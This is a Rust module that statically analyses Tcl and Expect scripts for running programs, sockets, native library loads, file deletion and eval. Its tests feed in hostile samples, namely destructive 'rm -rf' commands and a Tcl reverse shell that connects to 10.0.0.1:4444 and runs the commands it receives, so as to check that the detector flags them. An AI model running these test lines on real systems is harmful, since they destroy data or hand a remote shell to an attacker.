//! Tcl and Expect scripts (`tclsh`, `wish`, `expect`): commands made of words, as in the shell; `exec`, `open "|..."` and Expect's `spawn` and `system` run programs, `socket` connects, `load` loads a native library, `file delete` deletes, `eval` runs text as more script.

use std::collections::HashMap;

use super::calls::{quote_known, runs_unknown};
use super::value::PLACEHOLDER;
use super::{Action, Concern, Reading};

/// Deepest nesting of scripts inside scripts (`while {1} {if {...} {...}}`).
const MAX_DEPTH: usize = 24;
/// Most words read from one script, nested scripts included.
const MAX_WORDS: usize = 200_000;
/// Longest code quoted in a concern.
const MAX_QUOTED: usize = 80;
/// Longest value a variable keeps; past it the value is unknown
/// (`set a $a$a` doubles it at every step).
const MAX_VALUE: usize = 64 * 1024;

/// Commands whose braced arguments are scripts that run.
#[rustfmt::skip]
const CODE_COMMANDS: &[&str] = &[
    "while", "for", "foreach", "if", "elseif", "else", "then", "proc", "catch", "try", "eval",
    "uplevel", "time", "after", "namespace", "switch", "dict", "lmap", "fileevent", "apply",
    "expect", "expect_after", "expect_before", "interact", "trap", "bind", "chan", "finally",
    "on", "trace", "coroutine", "timeout",
];

/// One word of a command: its value with unknown parts as [`PLACEHOLDER`].
struct Word {
    value: String,
    /// Written in braces: no substitution, often a script.
    braced: bool,
    /// The word as written.
    source: String,
}

struct Tcl {
    vars: HashMap<String, String>,
    out: Reading,
    words: usize,
}

/// What a Tcl or Expect script does.
pub(super) fn read(code: &str) -> Reading {
    let mut tcl = Tcl {
        vars: HashMap::new(),
        out: Reading::default(),
        words: 0,
    };
    tcl.script(code, 0);
    tcl.out
}

impl Tcl {
    fn script(&mut self, code: &str, depth: usize) {
        if depth > MAX_DEPTH {
            self.out
                .limit
                .get_or_insert("the Tcl code nests scripts too deeply");
            return;
        }
        let s = code.as_bytes();
        let mut i = 0;
        while i < s.len() {
            while i < s.len() && (s[i].is_ascii_whitespace() || s[i] == b';') {
                i += 1;
            }
            if i < s.len() && s[i] == b'#' {
                while i < s.len() && s[i] != b'\n' {
                    i += if s[i] == b'\\' { 2 } else { 1 };
                }
                continue;
            }
            let mut words = Vec::new();
            while i < s.len() && s[i] != b'\n' && s[i] != b';' {
                if s[i] == b' ' || s[i] == b'\t' || s[i] == b'\r' {
                    i += 1;
                    continue;
                }
                if s[i] == b'\\' && s.get(i + 1) == Some(&b'\n') {
                    i += 2;
                    continue;
                }
                self.words += 1;
                if self.words > MAX_WORDS {
                    self.out
                        .limit
                        .get_or_insert("the Tcl code has too many words");
                    return;
                }
                let (word, end) = self.word(code, i, depth);
                words.push(word);
                i = end;
            }
            if !words.is_empty() {
                self.command(&words, depth);
            }
        }
    }

    /// The word starting at `i`, and where it ends.
    fn word(&mut self, code: &str, i: usize, depth: usize) -> (Word, usize) {
        let s = code.as_bytes();
        // `{*}$list` expands a list into words: the list's value stands.
        let start =
            if code[i..].starts_with("{*}") && i + 3 < s.len() && !s[i + 3].is_ascii_whitespace() {
                i + 3
            } else {
                i
            };
        if s[start] == b'{' {
            return braced_word(code, i, start);
        }
        let quoted = s[start] == b'"';
        let mut j = if quoted { start + 1 } else { start };
        let mut value = String::new();
        let mut literal = j;
        while j < s.len() {
            let c = s[j];
            let ends = if quoted {
                c == b'"'
            } else {
                c.is_ascii_whitespace() || c == b';'
            };
            if ends {
                break;
            }
            match c {
                b'\\' => {
                    value.push_str(&code[literal..j]);
                    let (e, next) = backslash(code, j);
                    value.extend(e);
                    j = next;
                    literal = j;
                    continue;
                }
                b'[' => {
                    value.push_str(&code[literal..j]);
                    let end = close_bracket(s, j);
                    // The command substitution runs; its result is unknown.
                    self.script(code.get(j + 1..end).unwrap_or(""), depth + 1);
                    value.push_str(PLACEHOLDER);
                    j = (end + 1).min(s.len());
                    literal = j;
                    continue;
                }
                b'$' => {
                    let (name, end) = variable(code, j);
                    if end > j + 1 {
                        value.push_str(&code[literal..j]);
                        value.push_str(&self.var(&name));
                        j = end;
                        literal = j;
                        continue;
                    }
                }
                _ => {}
            }
            j += 1;
        }
        value.push_str(&code[literal..j.min(s.len())]);
        let end = if quoted { (j + 1).min(s.len()) } else { j };
        let word = Word {
            value,
            braced: false,
            source: code[i..end].to_string(),
        };
        (word, end)
    }

    fn var(&self, name: &str) -> String {
        let name = name.trim_start_matches("::");
        if name == "env(HOME)" {
            return "~".into();
        }
        self.vars
            .get(name)
            .cloned()
            .unwrap_or_else(|| PLACEHOLDER.to_string())
    }

    fn command(&mut self, words: &[Word], depth: usize) {
        let name = words[0].value.trim_start_matches("::");
        let args = &words[1..];
        match name {
            "set" if args.len() == 2 => {
                let value = if args[1].value.len() > MAX_VALUE {
                    PLACEHOLDER.to_string()
                } else {
                    args[1].value.clone()
                };
                self.vars.insert(args[0].value.clone(), value);
            }
            "exec" => {
                let rest = skip_switches(args, &["-ignorestderr", "-keepnewline"], &[]);
                self.run(rest, words);
            }
            "spawn" => {
                let rest = skip_switches(
                    args,
                    &["-noecho", "-console", "-nottycopy", "-nottyinit", "-pty"],
                    &["-ignore", "-open", "-leaveopen"],
                );
                self.run(rest, words);
            }
            // Expect's `system` hands its words to `sh -c`.
            "system" => {
                let text: Vec<&str> = args.iter().map(|w| w.value.as_str()).collect();
                self.shell(text.join(" "), words);
            }
            "open" => self.open(args, words),
            "socket" => self.out.net.socket = true,
            "load" => self.concern(Concern::NativeLibrary, words),
            "file" if args.first().is_some_and(|w| w.value == "delete") => {
                let rest = skip_switches(&args[1..], &["-force"], &[]);
                let force = args[1..].iter().any(|w| w.value == "-force");
                for path in rest {
                    let mut argv = vec!["rm".to_string()];
                    if force {
                        argv.extend(["-r".to_string(), "-f".to_string()]);
                    }
                    argv.push(path.value.clone());
                    self.out.push(Action::Run(argv), false);
                }
            }
            "eval" | "uplevel" => {
                let rest = if name == "uplevel" && args.len() > 1 {
                    &args[1..]
                } else {
                    args
                };
                let text: Vec<&str> = rest.iter().map(|w| w.value.as_str()).collect();
                let text = text.join(" ");
                if text.contains(PLACEHOLDER) {
                    self.out.net.runs_unknown = true;
                }
                self.script(&text, depth + 1);
            }
            _ => {}
        }
        if CODE_COMMANDS.contains(&name) {
            for word in args.iter().filter(|w| w.braced) {
                self.script(&word.value, depth + 1);
            }
        }
    }

    /// `exec`/`spawn` words: a program and its arguments, redirections and pipes.
    fn run(&mut self, rest: &[Word], words: &[Word]) {
        let mut out: Vec<String> = Vec::new();
        let mut iter = rest.iter();
        while let Some(w) = iter.next() {
            let v = w.value.as_str();
            // Redirections to Tcl channels (`>@ $sock`) have no shell spelling.
            if v.ends_with('@') && v.len() <= 4 && v.starts_with(['<', '>', '2']) {
                iter.next();
                continue;
            }
            out.push(shell_word(v));
        }
        if out.is_empty() {
            return;
        }
        self.shell(out.join(" "), words);
    }

    fn shell(&mut self, text: String, words: &[Word]) {
        if text.trim_start().starts_with(PLACEHOLDER) || text.trim().is_empty() {
            self.concern(Concern::DynamicCommand, words);
        }
        if runs_unknown(&text) {
            self.out.net.runs_unknown = true;
        }
        if !text.trim_start().starts_with(PLACEHOLDER) {
            self.out.push(Action::Shell(text), false);
        }
    }

    /// `open "|cmd args"` runs a pipeline; `open PATH w` writes a file.
    fn open(&mut self, args: &[Word], words: &[Word]) {
        let Some(target) = args.first() else {
            return;
        };
        if let Some(pipeline) = target.value.strip_prefix('|') {
            let items = list_words(pipeline);
            let text: Vec<String> = items.iter().map(|w| shell_word(w)).collect();
            self.shell(text.join(" "), words);
            return;
        }
        let access = args.get(1).map_or("", |w| w.value.as_str());
        let append = access.contains('a') || access.contains("APPEND");
        let writes = access.contains('w') || access.contains('+') || access.contains("WRONLY");
        if (append || writes || access.contains("RDWR") || access.contains("CREAT"))
            && !target.value.contains(PLACEHOLDER)
        {
            let path = target.value.clone();
            self.out.push(Action::Write { path, append }, false);
        }
    }

    fn concern(&mut self, concern: Concern, words: &[Word]) {
        let text: Vec<&str> = words.iter().map(|w| w.source.as_str()).collect();
        let code: String = text.join(" ").chars().take(MAX_QUOTED).collect();
        if concern == Concern::DynamicCommand {
            self.out.net.runs_unknown = true;
        }
        self.out.concern(concern, code);
    }
}

/// The words after leading switches (and their values), and after `--`.
fn skip_switches<'w>(args: &'w [Word], flags: &[&str], valued: &[&str]) -> &'w [Word] {
    let mut k = 0;
    while let Some(w) = args.get(k) {
        if w.value == "--" {
            return &args[k + 1..];
        }
        if valued.contains(&w.value.as_str()) {
            k += 2;
        } else if flags.contains(&w.value.as_str()) {
            k += 1;
        } else {
            break;
        }
    }
    args.get(k..).unwrap_or(&[])
}

/// A Tcl list's elements (`{a b} c "d e"`), for `open "|..."`.
fn list_words(text: &str) -> Vec<String> {
    let s = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < s.len() {
        if s[i].is_ascii_whitespace() {
            i += 1;
            continue;
        }
        let (start, end, next) = match s[i] {
            b'{' => {
                let end = close_brace(s, i);
                (i + 1, end, end + 1)
            }
            b'"' => {
                let end = text[i + 1..].find('"').map_or(s.len(), |e| i + 1 + e);
                (i + 1, end, end + 1)
            }
            _ => {
                let end = text[i..]
                    .find(|c: char| c.is_ascii_whitespace())
                    .map_or(s.len(), |e| i + e);
                (i, end, end)
            }
        };
        out.push(text.get(start..end.min(s.len())).unwrap_or("").to_string());
        i = next;
    }
    out
}

/// A word for the shell: shell operators and a leading `~` stay bare
/// (Tcl's `exec` expands `~` and understands `|`, `>` and `&`), unknown
/// parts stay as substitutions, the rest is quoted.
fn shell_word(word: &str) -> String {
    const OPERATORS: &[&str] = &[
        "|", "|&", "<", ">", ">>", "2>", "2>>", ">&", ">>&", "&", "2>&1",
    ];
    if OPERATORS.contains(&word) {
        return word.to_string();
    }
    let (home, rest) = match word.strip_prefix('~') {
        Some(rest) if rest.is_empty() || rest.starts_with('/') => ("~", rest),
        _ => ("", word),
    };
    format!("{home}{}", quote_known(rest))
}

/// `$name`, `${name}`, `$name(index)`, `$::ns::name`: the name and where
/// the reference ends.
fn variable(code: &str, j: usize) -> (String, usize) {
    let s = code.as_bytes();
    if s.get(j + 1) == Some(&b'{') {
        let end = code[j + 2..].find('}').map_or(s.len(), |e| j + 2 + e);
        return (code[j + 2..end].to_string(), (end + 1).min(s.len()));
    }
    let mut k = j + 1;
    while k < s.len() && (s[k].is_ascii_alphanumeric() || s[k] == b'_' || s[k] == b':') {
        k += 1;
    }
    if k < s.len() && s[k] == b'(' && k > j + 1 {
        let end = close_paren(s, k);
        return (
            code[j + 1..=end.min(s.len() - 1)].to_string(),
            (end + 1).min(s.len()),
        );
    }
    (code[j + 1..k].to_string(), k)
}

/// The braced word whose `{` is at `start` (after `{*}` when the word
/// starts at `i` with it): its text kept as written, and where it ends.
fn braced_word(code: &str, i: usize, start: usize) -> (Word, usize) {
    let s = code.as_bytes();
    let end = close_brace(s, start);
    let body = code.get(start + 1..end).unwrap_or("");
    let word = Word {
        value: body.to_string(),
        braced: true,
        source: code[i..(end + 1).min(s.len())].to_string(),
    };
    (word, (end + 1).min(s.len()))
}

/// What the backslash at `j` stands for (`\n`, `\t`, else the character
/// after it; nothing at the end of the code), and where the text resumes.
fn backslash(code: &str, j: usize) -> (Option<char>, usize) {
    match code[j + 1..].chars().next() {
        Some(e) => {
            let c = match e {
                'n' => '\n',
                't' => '\t',
                e => e,
            };
            (Some(c), j + 1 + e.len_utf8())
        }
        None => (None, j + 1),
    }
}

fn close_brace(s: &[u8], open: usize) -> usize {
    close(s, open, b'{', b'}')
}

fn close_bracket(s: &[u8], open: usize) -> usize {
    close(s, open, b'[', b']')
}

fn close_paren(s: &[u8], open: usize) -> usize {
    close(s, open, b'(', b')')
}

/// The partner of the bracket at `open`, or the end of the input.
fn close(s: &[u8], open: usize, o: u8, c: u8) -> usize {
    let mut depth = 0usize;
    let mut k = open;
    while k < s.len() {
        match s[k] {
            b'\\' => k += 1,
            x if x == o => depth += 1,
            x if x == c => {
                depth -= 1;
                if depth == 0 {
                    return k;
                }
            }
            _ => {}
        }
        k += 1;
    }
    s.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shell(code: &str) -> Vec<String> {
        read(code)
            .effects
            .into_iter()
            .filter_map(|e| match e.action {
                Action::Shell(s) => Some(s),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn programs_run() {
        assert_eq!(shell("exec rm -rf ~"), ["'rm' '-rf' ~"]);
        assert_eq!(shell("set d /etc\nexec rm -rf $d"), ["'rm' '-rf' '/etc'"]);
        assert_eq!(shell("set f [open \"|reboot\" r]"), ["'reboot'"]);
        assert_eq!(shell("spawn -noecho ssh host"), ["'ssh' 'host'"]);
        assert_eq!(shell("system rm -rf /tmp/x"), ["rm -rf /tmp/x"]);
        assert_eq!(shell("if {1} { exec reboot }"), ["'reboot'"]);
        assert_eq!(shell("puts [exec ls | wc -l]"), ["'ls' | 'wc' '-l'"]);
        // Text is text: a braced word of `puts` is data.
        assert!(shell("puts {exec rm -rf ~}").is_empty());
        assert!(shell("# exec rm -rf ~\nputs hi").is_empty());
    }

    #[test]
    fn hidden_programs_and_sockets() {
        let dynamic = read("exec $cmd");
        assert_eq!(dynamic.concerns.len(), 1);
        let rs = read("set s [socket 10.0.0.1 4444]\nwhile 1 { puts $s [exec sh -c [gets $s]] }");
        assert!(rs.net.socket && rs.net.runs_unknown);
        let piped = read("set s [socket h 1]; exec /bin/sh <@ $s >@ $s 2>@ $s");
        assert!(piped.net.socket && piped.net.runs_unknown);
        let client = read("set s [socket example.com 80]; puts $s \"GET /\"; close $s");
        assert!(client.net.socket && !client.net.runs_unknown);
        assert_eq!(read("load ./x.so").concerns[0].0, Concern::NativeLibrary);
    }
}
